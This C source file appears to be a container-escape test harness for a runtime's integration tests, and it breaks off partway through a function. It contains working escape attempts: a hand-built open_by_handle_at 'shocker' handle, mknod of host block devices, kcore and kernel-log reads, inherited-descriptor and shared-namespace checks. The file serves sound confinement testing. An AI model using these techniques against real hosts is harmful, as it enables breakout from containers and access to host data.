/*
 * attack.c: the attacks a container must withstand, each a real attempt made from inside the
 * container, and a report of the confinement it runs under. Used by Peapod's integration tests
 * (Tests/PeapodIntegrationTests/AttackTests.swift) and by tools/attacks/compare.sh.
 *
 *   attack all [options]          every attack except watch-exec, in an order where the
 *                                 inspections come before the attacks that change the container
 *   attack NAME... [options]      the named attacks
 *   attack watch-exec [--seconds N] [--until PATH]   watches for processes entering the
 *                                 container (run `peapod exec POD -- sleep 1` meanwhile) and
 *                                 attacks them, for N seconds or until PATH exists
 *   attack list                   the attacks, one line each
 *   attack report                 capabilities, seccomp, no_new_privs, ids, root writability
 *   attack listen [--tcp ADDR:PORT] [--abstract NAME] [--name COMM] [--seconds N]
 *                                 the host side: a TCP and an abstract socket service and a
 *                                 process named COMM for host-tcp, host-abstract and host-procs
 *
 * Options of the attacks:
 *   --marker PATH       a file that exists only on the host (chroot-escape, proc-root, ptrace)
 *   --host-proc COMM    the name (comm) of a host process (host-procs)
 *   --host-ns T:INO,..  the host's namespaces, e.g. net:4026531840,mnt:4026531841
 *   --connect A:PORT    a service of the host (host-tcp); repeatable
 *   --abstract NAME     an abstract unix socket of the host (host-abstract)
 *   --try-gateway       host-tcp also tries the default gateway at the --connect port; only
 *                       done when the network namespace is known not to be the host's
 *
 * Each attack prints one line: "BLOCKED name: why (errno)" or "ESCAPED name: what succeeded";
 * "SKIPPED name: why" when the kernel lacks what the attack needs (then it proves nothing
 * either way). The exit status is the number of ESCAPED lines.
 *
 * An attempt that gets past the permission check but fails later on our deliberately harmless
 * argument (a 4-byte "module", an oversized kexec segment count, a swap file without a
 * signature) counts as ESCAPED: a real payload would have gone through.
 *
 * Build: gcc -static -O2 -o attack attack.c (no other dependency).
 */
#define _GNU_SOURCE
/* Every message is cut to its buffer on purpose. */
#pragma GCC diagnostic ignored "-Wformat-truncation"
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#if defined(__x86_64__) || defined(__i386__)
#include <sys/io.h>
#endif

/* ---------------------------------------------------------------------------------------- */
/* Results                                                                                  */

static int n_escaped, n_blocked, n_skipped;

static void verdict(const char *kind, const char *name, const char *fmt, va_list ap)
{
    printf("%s %s: ", kind, name);
    vprintf(fmt, ap);
    putchar('\n');
    fflush(stdout);
}

#define VERDICT_FN(fn, kind, counter)                         \
    __attribute__((format(printf, 2, 3))) static void fn(const char *name, const char *fmt, ...) \
    {                                                         \
        va_list ap;                                           \
        va_start(ap, fmt);                                    \
        verdict(kind, name, fmt, ap);                         \
        va_end(ap);                                           \
        counter++;                                            \
    }
VERDICT_FN(escaped, "ESCAPED", n_escaped)
VERDICT_FN(blocked, "BLOCKED", n_blocked)
VERDICT_FN(skipped, "SKIPPED", n_skipped)

static const char *en(int e)
{
    const char *s = strerrorname_np(e);
    return s != NULL ? s : "E?";
}

/* ---------------------------------------------------------------------------------------- */
/* Options and what main learns before any attack                                          */

static struct {
    const char *marker;
    const char *host_proc;
    const char *host_ns;
    const char *connect[8];
    int connect_count;
    const char *abstract;
    int try_gateway;
    int seconds;
    const char *until;
} opt = {.seconds = 8};

static int seccomp_mode = -1;          /* from /proc/self/status; -1 unknown */
static struct stat root_st;            /* our root, to tell inside from outside */
static int start_cwd = -1;             /* the working directory we were started in */
static int inherited[64];              /* descriptors above 2 open when we started */
static int inherited_count;
static char scratch[PATH_MAX];         /* a writable directory of our own, or "" */
static char self_dir[PATH_MAX];        /* the directory of this binary (a read-only volume) */

/* ---------------------------------------------------------------------------------------- */
/* Small helpers                                                                            */

static ssize_t read_file(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return -1;
    size_t got = 0;
    while (got + 1 < size) {
        ssize_t r = read(fd, buf + got, size - 1 - got);
        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            break;
        got += (size_t)r;
    }
    int e = errno;
    close(fd);
    errno = e;
    buf[got] = '\0';
    return (ssize_t)got;
}

/* A field of /proc/PID/status ("CapEff", "Seccomp"...), or "" when absent. */
static const char *status_field(const char *pid, const char *key, char *out, size_t size)
{
    char path[64], buf[8192];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    out[0] = '\0';
    if (read_file(path, buf, sizeof buf) < 0)
        return out;
    size_t klen = strlen(key);
    for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        if (strncmp(line, key, klen) == 0 && line[klen] == ':') {
            char *v = line + klen + 1;
            while (*v == ' ' || *v == '\t')
                v++;
            size_t n = strcspn(v, "\n");
            if (n >= size)
                n = size - 1;
            memcpy(out, v, n);
            out[n] = '\0';
            break;
        }
    }
    return out;
}

static unsigned long long cap_mask(const char *pid, const char *which)
{
    char v[64];
    return strtoull(status_field(pid, which, v, sizeof v), NULL, 16);
}

static int same_inode(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static int is_pid_name(const char *s)
{
    if (*s == '\0')
        return 0;
    for (; *s; s++)
        if (*s < '0' || *s > '9')
            return 0;
    return 1;
}

/* The pids /proc shows, ascending order not guaranteed; returns the count. */
static int list_pids(int *pids, int max)
{
    DIR *d = opendir("/proc");
    int n = 0;
    if (d == NULL)
        return 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL && n < max)
        if (is_pid_name(e->d_name))
            pids[n++] = atoi(e->d_name);
    closedir(d);
    return n;
}

/* Is directory `fd` outside our root? Walks ".." up: from inside the root the walk reaches the
 * root (the kernel stops ".." there); from outside it reaches a top that is not our root. */
static int dir_outside_root(int fd)
{
    int cur = fcntl(fd, F_DUPFD_CLOEXEC, 0);
    for (int i = 0; cur >= 0 && i < 4096; i++) {
        struct stat st, up;
        if (fstat(cur, &st) < 0)
            break;
        if (same_inode(&st, &root_st)) {
            close(cur);
            return 0;
        }
        int parent = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (parent < 0 || fstat(parent, &up) < 0) {
            if (parent >= 0)
                close(parent);
            break;
        }
        close(cur);
        if (same_inode(&up, &st)) {
            close(parent);
            return 1;
        }
        cur = parent;
    }
    if (cur >= 0)
        close(cur);
    return -1;
}

/* Does descriptor `fd` (seen as `link`, its /proc/self/fd target) lead outside our root?
 * 1 yes, 0 no, -1 not a file (pipe, socket, anonymous inode). */
static int fd_outside_root(int fd, const char *link)
{
    struct stat st, there;
    if (link[0] != '/')
        return -1;
    if (fstat(fd, &st) < 0)
        return -1;
    if (S_ISDIR(st.st_mode))
        return dir_outside_root(fd);
    /* A file is inside when its path, looked up in our root, is the same inode. */
    return !(stat(link, &there) == 0 && same_inode(&st, &there));
}

/* A path that leads outside the root through a magic link (/proc/PID/exe, /proc/PID/fd/N):
 * 1 outside, 0 inside, -1 cannot tell (errno set). */
static int magic_outside_root(const char *magic)
{
    char link[PATH_MAX];
    ssize_t n = readlink(magic, link, sizeof link - 1);
    if (n < 0)
        return -1;
    link[n] = '\0';
    int fd = open(magic, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return -1;
    int r = fd_outside_root(fd, link);
    close(fd);
    return r;
}

/* A child process for attacks that change the caller for good (namespaces, chroot): `fn`
 * returns 0 on success or an errno and may fill `msg`. Returns fn's value; a signal that
 * ended the child is reported as -signal. */
struct child_result {
    int rc;
    char msg[480];
};

static int in_child(int (*fn)(void *, char *, size_t), void *arg, char *msg, size_t size)
{
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        return errno;
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0)
        return errno;
    if (pid == 0) {
        close(p[0]);
        struct child_result r;
        memset(&r, 0, sizeof r);
        r.rc = fn(arg, r.msg, sizeof r.msg);
        (void)!write(p[1], &r, sizeof r);
        _exit(0);
    }
    close(p[1]);
    struct child_result r;
    memset(&r, 0, sizeof r);
    ssize_t got = read(p[0], &r, sizeof r);
    close(p[0]);
    int status = 0;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
        ;
    if (got != (ssize_t)sizeof r)
        return WIFSIGNALED(status) ? -WTERMSIG(status) : ECHILD;
    snprintf(msg, size, "%s", r.msg);
    return r.rc;
}

/* The usual reading of a refused system call: EPERM/EACCES are the barrier (`barrier` says
 * which: "without CAP_X" or "by the seccomp profile"); ENOSYS is the
 * kernel lacking the call when no seccomp filter is loaded (SKIPPED), else the filter's or the
 * kernel's answer. Returns 1 when it printed a verdict, 0 when the call got past the check. */
static int refused(const char *name, int err, const char *barrier)
{
    if (err == EPERM || err == EACCES) {
        blocked(name, "refused (%s, %s)", en(err), barrier);
        return 1;
    }
    if (err == ENOSYS) {
        if (seccomp_mode == 0)
            skipped(name, "this kernel lacks the system call (ENOSYS, and no seccomp filter is loaded)");
        else
            blocked(name, "refused (ENOSYS, from the seccomp filter or a kernel without the call)");
        return 1;
    }
    return 0;
}

/* A mount point of our own, made fresh for each use: a subdirectory of the scratch directory,
 * or an existing empty directory of the image when nothing is writable. */
static const char *mount_point(char *buf, size_t size)
{
    if (scratch[0] != '\0') {
        snprintf(buf, size, "%s/m", scratch);
        if (mkdir(buf, 0700) == 0 || errno == EEXIST)
            return buf;
    }
    snprintf(buf, size, "/mnt");
    return buf;
}

static int is_mount_point(const char *path)
{
    char buf[65536];
    if (read_file("/proc/self/mountinfo", buf, sizeof buf) < 0)
        return 0;
    size_t plen = strlen(path);
    for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        /* id parent major:minor root mountpoint ... */
        char *f = line;
        for (int i = 0; i < 4 && f; i++) {
            f = strchr(f, ' ');
            if (f)
                f++;
        }
        if (f && strncmp(f, path, plen) == 0 && f[plen] == ' ')
            return 1;
    }
    return 0;
}

/* Flags a remount must repeat (MS_REMOUNT replaces the per-mount flags). */
static unsigned long kept_flags(const char *path)
{
    struct statvfs sv;
    if (statvfs(path, &sv) < 0)
        return 0;
    unsigned long keep = ST_NOSUID | ST_NODEV | ST_NOEXEC | ST_NOATIME | ST_NODIRATIME | ST_RELATIME;
    return sv.f_flag & keep;
}

static int is_read_only(const char *path)
{
    struct statvfs sv;
    return statvfs(path, &sv) == 0 && (sv.f_flag & ST_RDONLY);
}

/* The host's inode for namespace `type` from --host-ns, or 0. */
static unsigned long long host_ns(const char *type)
{
    if (opt.host_ns == NULL)
        return 0;
    size_t tlen = strlen(type);
    for (const char *p = opt.host_ns; p && *p; p = strchr(p, ',') ? strchr(p, ',') + 1 : NULL)
        if (strncmp(p, type, tlen) == 0 && p[tlen] == ':')
            return strtoull(p + tlen + 1, NULL, 10);
    return 0;
}

static unsigned long long own_ns(const char *type)
{
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/self/ns/%s", type);
    return stat(path, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}

/* 1 when our network namespace is known to differ from the host's. */
static int own_netns_known(void)
{
    unsigned long long h = host_ns("net");
    return h != 0 && own_ns("net") != h;
}

/* A process's identity and privilege, to tell a peer from something more powerful. */
struct proc_info {
    int pid;
    char comm[32];
    unsigned long long cap_prm;
    long uid;
};

static void proc_info(int pid, struct proc_info *pi)
{
    char p[16], buf[64], path[64];
    snprintf(p, sizeof p, "%d", pid);
    pi->pid = pid;
    pi->cap_prm = cap_mask(p, "CapPrm");
    pi->uid = strtol(status_field(p, "Uid", buf, sizeof buf), NULL, 10);
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    if (read_file(path, pi->comm, sizeof pi->comm) < 0)
        snprintf(pi->comm, sizeof pi->comm, "?");
    pi->comm[strcspn(pi->comm, "\n")] = '\0';
}

/* Something we must not reach: capabilities we lack, or another user. */
static int more_privileged(const struct proc_info *pi)
{
    unsigned long long ours = cap_mask("self", "CapPrm");
    return (pi->cap_prm & ~ours) != 0 || pi->uid != (long)getuid();
}

/* Does the host marker file exist below `base` (a /proc/PID/root or cwd link)? */
static int marker_below(const char *base)
{
    if (opt.marker == NULL)
        return 0;
    char path[PATH_MAX];
    struct stat st;
    snprintf(path, sizeof path, "%s%s", base, opt.marker);
    return stat(path, &st) == 0;
}

/* The other processes we can see: not us, not in our own mount namespace. */
static int foreign_pids(int *out, int max)
{
    int pids[4096];
    int n = list_pids(pids, 4096), k = 0;
    unsigned long long mine = own_ns("mnt");
    for (int i = 0; i < n && k < max; i++) {
        if (pids[i] == getpid())
            continue;
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%d/ns/mnt", pids[i]);
        /* Unreadable (a protected process) counts as foreign: it is worth trying. */
        if (stat(path, &st) == 0 && (unsigned long long)st.st_ino == mine)
            continue;
        out[k++] = pids[i];
    }
    return k;
}

/* ---------------------------------------------------------------------------------------- */
/* Host view: descriptors, directories, namespaces, processes, network                     */

/* A descriptor left open by the runtime (runc CVE-2024-21626 leaked a host directory fd). */
static void a_inherited_fd(const char *name)
{
    if (inherited_count == 0) {
        blocked(name, "no descriptor but 0, 1 and 2 was open at start");
        return;
    }
    char what[1024] = "";
    for (int i = 0; i < inherited_count; i++) {
        char magic[64], link[PATH_MAX];
        snprintf(magic, sizeof magic, "/proc/self/fd/%d", inherited[i]);
        ssize_t n = readlink(magic, link, sizeof link - 1);
        link[n > 0 ? n : 0] = '\0';
        int out = fd_outside_root(inherited[i], link);
        size_t len = strlen(what);
        snprintf(what + len, sizeof what - len, "%sfd %d -> %s%s", i ? ", " : "", inherited[i], link,
                 out == 1 ? " (outside the root)" : "");
    }
    escaped(name, "inherited %s", what);
}

/* A working directory outside the root at start: ".." from it walks the host's tree. */
static void a_cwd_outside(const char *name)
{
    char link[PATH_MAX];
    ssize_t n = readlink("/proc/self/cwd", link, sizeof link - 1);
    link[n > 0 ? n : 0] = '\0';
    int out = start_cwd >= 0 ? dir_outside_root(start_cwd) : -1;
    if (out == 1)
        escaped(name, "started in %s, outside the root: .. leads to the host's /", link);
    else if (out == 0)
        blocked(name, "started in %s, inside the root", link);
    else
        blocked(name, "could not examine the start directory (%s)", en(errno));
}

/* Namespaces shared with the host (hostNetwork, hostPID... by mistake). */
static void a_host_namespaces(const char *name)
{
    if (opt.host_ns == NULL) {
        skipped(name, "no --host-ns given");
        return;
    }
    static const char *types[] = {"mnt", "pid", "net", "ipc", "uts"};
    char shared[128] = "", note[128] = "";
    for (size_t i = 0; i < sizeof types / sizeof types[0]; i++) {
        unsigned long long h = host_ns(types[i]);
        if (h != 0 && own_ns(types[i]) == h) {
            size_t len = strlen(shared);
            snprintf(shared + len, sizeof shared - len, "%s%s", len ? "," : "", types[i]);
        }
    }
    /* The cgroup namespace is not counted: runc and the kubelet share it on cgroup v1. */
    if (host_ns("cgroup") != 0 && own_ns("cgroup") == host_ns("cgroup"))
        snprintf(note, sizeof note, "; shares the host's cgroup namespace (as runc does on cgroup v1)");
    if (shared[0])
        escaped(name, "shares the host's %s namespace(s)%s", shared, note);
    else
        blocked(name, "mnt, pid, net, ipc and uts namespaces are all its own%s", note);
}

/* Host processes visible (a shared PID namespace): look for the host's marker process. */
static void a_host_procs(const char *name)
{
    int pids[4096];
    int n = list_pids(pids, 4096);
    if (opt.host_proc == NULL) {
        skipped(name, "no --host-proc given (sees %d processes)", n);
        return;
    }
    for (int i = 0; i < n; i++) {
        char path[64], comm[64];
        snprintf(path, sizeof path, "/proc/%d/comm", pids[i]);
        if (read_file(path, comm, sizeof comm) > 0) {
            comm[strcspn(comm, "\n")] = '\0';
            if (strcmp(comm, opt.host_proc) == 0) {
                escaped(name, "sees the host's process %s (pid %d here) among %d", comm, pids[i], n);
                return;
            }
        }
    }
    blocked(name, "sees %d process(es), none of them the host's %s", n, opt.host_proc);
}

static int connect_timeout(int family, const struct sockaddr *sa, socklen_t len, int *err)
{
    int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        *err = errno;
        return 0;
    }
    int ok = 0;
    if (connect(fd, sa, len) == 0) {
        ok = 1;
    } else if (errno == EINPROGRESS) {
        struct pollfd p = {.fd = fd, .events = POLLOUT};
        int soerr = ETIMEDOUT;
        socklen_t sl = sizeof soerr;
        if (poll(&p, 1, 1000) == 1)
            getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &sl);
        ok = soerr == 0;
        *err = soerr;
    } else {
        *err = errno;
    }
    close(fd);
    return ok;
}

/* The default gateway of our network namespace (/proc/net/route), or 0. */
static in_addr_t default_gateway(void)
{
    char buf[8192];
    if (read_file("/proc/net/route", buf, sizeof buf) < 0)
        return 0;
    for (char *line = strchr(buf, '\n'); line && line[1]; line = strchr(line + 1, '\n')) {
        char ifname[32];
        unsigned dest, gw;
        if (sscanf(line + 1, "%31s %x %x", ifname, &dest, &gw) == 3 && dest == 0 && gw != 0)
            return (in_addr_t)gw;
    }
    return 0;
}

/* A host service over TCP: the host's addresses given, and (--try-gateway) the gateway. */
static void a_host_tcp(const char *name)
{
    char ifs[256] = "";
    struct if_nameindex *list = if_nameindex();
    for (struct if_nameindex *i = list; i && i->if_index; i++) {
        size_t len = strlen(ifs);
        snprintf(ifs + len, sizeof ifs - len, "%s%s", len ? "," : "", i->if_name);
    }
    if (list)
        if_freenameindex(list);
    if (opt.connect_count == 0) {
        skipped(name, "no --connect given (interfaces: %s)", ifs);
        return;
    }
    char tried[512] = "";
    for (int i = 0; i < opt.connect_count + 1; i++) {
        char host[64];
        int port;
        const char *target = i < opt.connect_count ? opt.connect[i] : opt.connect[0];
        if (sscanf(target, "%63[^:]:%d", host, &port) != 2)
            continue;
        if (i == opt.connect_count) {
            /* The gateway only inside a network namespace of our own: in the host's, it may
             * be a router off this machine. */
            in_addr_t gw = default_gateway();
            if (!opt.try_gateway || gw == 0 || !own_netns_known())
                break;
            inet_ntop(AF_INET, &gw, host, sizeof host);
        }
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        if (inet_pton(AF_INET, host, &sa.sin_addr) != 1)
            continue;
        int err = 0;
        if (connect_timeout(AF_INET, (struct sockaddr *)&sa, sizeof sa, &err)) {
            escaped(name, "connected to the host's %s:%d%s (interfaces: %s)", host, port,
                    i == opt.connect_count ? " (the default gateway)" : "", ifs);
            return;
        }
        size_t len = strlen(tried);
        snprintf(tried + len, sizeof tried - len, "%s%s:%d %s", len ? ", " : "", host, port, en(err));
    }
    blocked(name, "%s (interfaces: %s)", tried, ifs);
}

/* An abstract unix socket of the host: these live in the network namespace, not on a path. */
static void a_host_abstract(const char *name)
{
    if (opt.abstract == NULL) {
        skipped(name, "no --abstract given");
        return;
    }
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    size_t n = strlen(opt.abstract);
    if (n > sizeof sa.sun_path - 2)
        n = sizeof sa.sun_path - 2;
    memcpy(sa.sun_path + 1, opt.abstract, n);
    int err = 0;
    socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    if (connect_timeout(AF_UNIX, (struct sockaddr *)&sa, len, &err))
        escaped(name, "connected to the host's abstract socket @%s", opt.abstract);
    else
        blocked(name, "@%s: %s", opt.abstract, en(err));
}

/* A raw socket: CAP_NET_RAW is in containerd's default set, so only the host's interfaces
 * (a shared network namespace) would make it an escape. */
static void a_raw_socket(const char *name)
{
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (fd < 0) {
        blocked(name, "socket(AF_PACKET, SOCK_RAW) refused (%s)", en(errno));
        return;
    }
    close(fd);
    unsigned long long h = host_ns("net");
    if (h != 0 && own_ns("net") == h)
        escaped(name, "a packet socket in the host's network namespace: sees the host's traffic");
    else
        blocked(name, "packet socket allowed (CAP_NET_RAW, in the default set) but on the pod's own interfaces only");
}

/* ---------------------------------------------------------------------------------------- */
/* Kernel information                                                                       */

/* /proc/kcore is the kernel's memory as an ELF core file. */
static void a_read_kcore(const char *name)
{
    char buf[64];
    int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
    if (fd < 0 && errno == ENOENT) {
        skipped(name, "this kernel has no /proc/kcore");
        return;
    }
    if (fd < 0) {
        blocked(name, "open refused (%s)", en(errno));
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n > 0)
        escaped(name, "read %zd bytes of the kernel's memory image", n);
    else if (n == 0)
        blocked(name, "masked: reads as empty");
    else
        blocked(name, "read refused (%s)", en(e));
}

/* The paths runtimes mask: files read empty, directories list nothing. */
static void a_read_masked(const char *name)
{
    static const char *paths[] = {"/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats",
                                  "/proc/timer_stats", "/proc/acpi", "/proc/asound", "/proc/scsi", "/sys/firmware"};
    char leaked[512] = "";
    int present = 0;
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        struct stat st;
        if (stat(paths[i], &st) < 0)
            continue;
        present++;
        long amount = 0;
        if (S_ISDIR(st.st_mode)) {
            DIR *d = opendir(paths[i]);
            struct dirent *e;
            while (d && (e = readdir(d)) != NULL)
                if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
                    amount++;
            if (d)
                closedir(d);
        } else {
            char buf[4096];
            ssize_t n = read_file(paths[i], buf, sizeof buf);
            amount = n > 0 ? n : 0;
        }
        if (amount > 0) {
            size_t len = strlen(leaked);
            snprintf(leaked + len, sizeof leaked - len, "%s%s (%ld %s)", len ? ", " : "", paths[i], amount,
                     S_ISDIR(st.st_mode) ? "entries" : "bytes");
        }
    }
    if (present == 0)
        skipped(name, "none of the usually masked paths exists on this kernel");
    else if (leaked[0])
        escaped(name, "read %s", leaked);
    else
        blocked(name, "all %d masked paths present read as empty", present);
}

/* The kernel log through syslog(2) (addresses, other tenants' messages). */
static void a_syslog(const char *name)
{
    static char buf[1 << 16];
    int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
    if (n < 0) {
        if (!refused(name, errno, "without CAP_SYSLOG"))
            blocked(name, "refused (%s)", en(errno));
        return;
    }
    escaped(name, "read %d bytes of the kernel log", n);
}

/* ---------------------------------------------------------------------------------------- */
/* Devices                                                                                  */

static int make_node(char *path, size_t size, const char *label, mode_t type, dev_t dev)
{
    /* /dev is a tmpfs without nodev in every runtime; the scratch directory is the fallback. */
    const char *dirs[] = {"/dev", scratch[0] ? scratch : NULL, "/tmp"};
    int err = ENOENT;
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        if (dirs[i] == NULL)
            continue;
        snprintf(path, size, "%s/.attack-%s", dirs[i], label);
        unlink(path);
        if (mknod(path, type | 0600, dev) == 0)
            return 0;
        err = errno;
        if (err == EPERM)
            break;
    }
    errno = err;
    return -1;
}

/* A host disk: the block device's major:minor from /sys/dev/block, else the usual ones. */
static void a_mknod_disk(const char *name)
{
    unsigned majors[16], minors[16];
    char names[16][32];
    int n = 0;
    DIR *d = opendir("/sys/dev/block");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL && n < 16) {
        unsigned ma, mi;
        if (sscanf(e->d_name, "%u:%u", &ma, &mi) != 2 || ma == 7 || ma == 1)
            continue;  /* loop and ram disks are not the host's disk */
        char path[PATH_MAX], buf[512];
        snprintf(path, sizeof path, "/sys/dev/block/%s/uevent", e->d_name);
        names[n][0] = '\0';
        if (read_file(path, buf, sizeof buf) > 0) {
            char *dn = strstr(buf, "DEVNAME=");
            if (dn)
                snprintf(names[n], sizeof names[n], "%.*s", (int)strcspn(dn + 8, "\n"), dn + 8);
        }
        majors[n] = ma;
        minors[n] = mi;
        n++;
    }
    if (d)
        closedir(d);
    static const unsigned fallback[][2] = {{8, 0}, {253, 0}, {254, 0}, {259, 0}, {7, 0}};
    for (size_t i = 0; n == 0 && i < sizeof fallback / sizeof fallback[0]; i++) {
        majors[i] = fallback[i][0];
        minors[i] = fallback[i][1];
        snprintf(names[i], sizeof names[i], "a disk");
    }
    if (n == 0)
        n = (int)(sizeof fallback / sizeof fallback[0]);

    char tried[512] = "";
    for (int i = 0; i < n; i++) {
        char node[PATH_MAX], buf[512];
        if (make_node(node, sizeof node, "disk", S_IFBLK, makedev(majors[i], minors[i])) < 0) {
            if (errno == EPERM) {
                blocked(name, "mknod of %s (%u:%u) refused (EPERM, without CAP_MKNOD)", names[i], majors[i], minors[i]);
                return;
            }
            size_t len = strlen(tried);
            snprintf(tried + len, sizeof tried - len, "%s%s mknod %s", len ? ", " : "", names[i], en(errno));
            continue;
        }
        int fd = open(node, O_RDONLY | O_CLOEXEC);
        int err = errno;
        ssize_t r = fd >= 0 ? pread(fd, buf, sizeof buf, 0) : -1;
        if (fd >= 0)
            close(fd);
        unlink(node);
        if (fd >= 0) {
            /* Open is the breach (the devices cgroup's job); an empty device reads nothing. */
            escaped(name, "opened the host's block device %s (%u:%u) through a node it made (read %zd bytes)", names[i],
                    majors[i], minors[i], r > 0 ? r : 0);
            return;
        }
        size_t len = strlen(tried);
        snprintf(tried + len, sizeof tried - len, "%s%s (%u:%u) made but open %s", len ? ", " : "", names[i],
                 majors[i], minors[i], en(err));
    }
    blocked(name, "%s", tried);
}

/* /dev/kmsg (1:11): the kernel log device, made by hand since /dev does not list it. */
static void a_mknod_kmsg(const char *name)
{
    char node[PATH_MAX], buf[1024];
    if (make_node(node, sizeof node, "kmsg", S_IFCHR, makedev(1, 11)) < 0) {
        blocked(name, "mknod 1:11 refused (%s, without CAP_MKNOD)", en(errno));
        return;
    }
    int fd = open(node, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    int err = errno;
    ssize_t r = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
    if (fd >= 0)
        close(fd);
    unlink(node);
    if (fd < 0)
        blocked(name, "node made, open refused (%s; the devices cgroup or CAP_SYSLOG)", en(err));
    else
        escaped(name, "opened the kernel log device%s", r > 0 ? " and read a record" : "");
}

/* Direct I/O port access (x86): the hardware, past every driver. */
static void a_ioperm(const char *name)
{
#if defined(__x86_64__) || defined(__i386__)
    if (ioperm(0x80, 1, 1) == 0) {
        (void)ioperm(0x80, 1, 0);
        escaped(name, "got access to I/O port 0x80");
        return;
    }
    if (!refused(name, errno, "without CAP_SYS_RAWIO"))
        blocked(name, "refused (%s)", en(errno));
#else
    skipped(name, "not an x86 machine");
#endif
}

/* ---------------------------------------------------------------------------------------- */
/* Host filesystem                                                                          */

/* The "shocker" attack: open_by_handle_at with a handle for inode 2, the root directory of an
 * ext2/3/4 filesystem, relative to a mount of that filesystem inside the container (a volume,
 * /etc/hosts): the host's whole filesystem, past every bind mount. */
static void a_open_by_handle(const char *name)
{
    char buf[65536];
    if (read_file("/proc/self/mountinfo", buf, sizeof buf) < 0) {
        blocked(name, "cannot read mountinfo (%s)", en(errno));
        return;
    }
    int tried = 0;
    for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        char mnt[PATH_MAX], fstype[64];
        char *sep = strstr(line, " - ");
        if (sep == NULL || sscanf(line, "%*s %*s %*s %*s %4095s", mnt) != 1 || sscanf(sep + 3, "%63s", fstype) != 1)
            continue;
        int ino;
        if (strncmp(fstype, "ext", 3) == 0)
            ino = 2;
        else if (strcmp(fstype, "xfs") == 0)
            ino = 128;
        else
            continue;
        int mfd = open(mnt, O_RDONLY | O_CLOEXEC);
        if (mfd < 0)
            continue;
        /* Made by hand, not by name_to_handle_at (a profile may refuse that one): type 1 is
         * FILEID_INO32_GEN, a 32-bit inode number and a generation, what ext4 and xfs (for
         * inodes below 2^32) decode; the root directory's generation is 0. */
        struct {
            struct file_handle h;
            uint32_t raw[2];
        } fh;
        fh.h.handle_bytes = sizeof fh.raw;
        fh.h.handle_type = 1;
        fh.raw[0] = (uint32_t)ino;
        fh.raw[1] = 0;
        tried++;
        int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int err = errno;
        close(mfd);
        if (fd >= 0) {
            char names[256] = "";
            DIR *d = fdopendir(fd);
            struct dirent *e;
            int shown = 0;
            while (d && (e = readdir(d)) != NULL && shown < 8) {
                if (e->d_name[0] == '.')
                    continue;
                size_t len = strlen(names);
                snprintf(names + len, sizeof names - len, "%s%s", shown++ ? " " : "", e->d_name);
            }
            if (d)
                closedir(d);
            escaped(name, "opened inode %d, the root of the host's %s filesystem behind %s: %s", ino, fstype, mnt,
                    names);
            return;
        }
        if (err == EPERM || err == EACCES) {
            blocked(name, "open_by_handle_at refused (%s, without CAP_DAC_READ_SEARCH) on %s", en(err), mnt);
            return;
        }
        if (err == ENOSYS) {
            refused(name, err, "without CAP_DAC_READ_SEARCH");
            return;
        }
        /* Past the permission check: only our guess of the inode was wrong. */
        escaped(name, "open_by_handle_at passed its CAP_DAC_READ_SEARCH check on %s (%s for inode %d)", mnt, en(err),
                ino);
        return;
    }
    if (tried == 0)
        skipped(name, "no ext4 or xfs filesystem of the host is mounted in the container");
}

/* The root or working directory of another process (/proc/PID/root): with a shared PID
 * namespace, a process outside the container (a runtime's pause, the host's) is the host's /. */
static void a_proc_root(const char *name)
{
    int pids[256];
    int n = foreign_pids(pids, 256);
